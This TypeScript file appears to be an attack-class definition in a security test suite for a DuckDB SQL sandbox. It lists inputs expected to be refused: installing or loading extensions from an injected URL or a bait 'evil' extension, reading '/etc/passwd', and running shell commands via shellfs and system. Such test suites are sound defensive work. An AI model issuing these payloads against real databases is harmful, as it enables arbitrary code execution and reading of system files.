import type { AttackClass } from "../attack.ts";

export const EXTENSIONS: AttackClass = {
  name: "extensions",
  ends: ["sql_refused"],
  attacks: ({ url, bait }) => [
    "INSTALL httpfs",
    "FORCE INSTALL httpfs",
    "INSTALL spatial FROM community",
    `INSTALL httpfs FROM '${url}'`,
    "LOAD httpfs",
    `LOAD '${bait}/evil.duckdb_extension'`,
    "UPDATE EXTENSIONS",
    "FROM duckdb_extensions()",
    "PRAGMA extension_versions",
    "FROM extension_versions()",
    "FROM st_read('/etc/passwd')",
    "FROM read_xlsx('/etc/x.xlsx')",
    "CALL dbgen(sf = 100)",
    { sql: "SELECT dbgen(1)", ends: ["sql_error"] },
    { sql: "SELECT excel_text(1, '0')", ends: ["sql_error"] },
    { sql: "SELECT st_read('/etc/passwd')", ends: ["sql_error"] },
    { sql: "SELECT shellfs('id')", ends: ["sql_error"] },
    { sql: "SELECT system('id')", ends: ["sql_error"] },
  ],
};
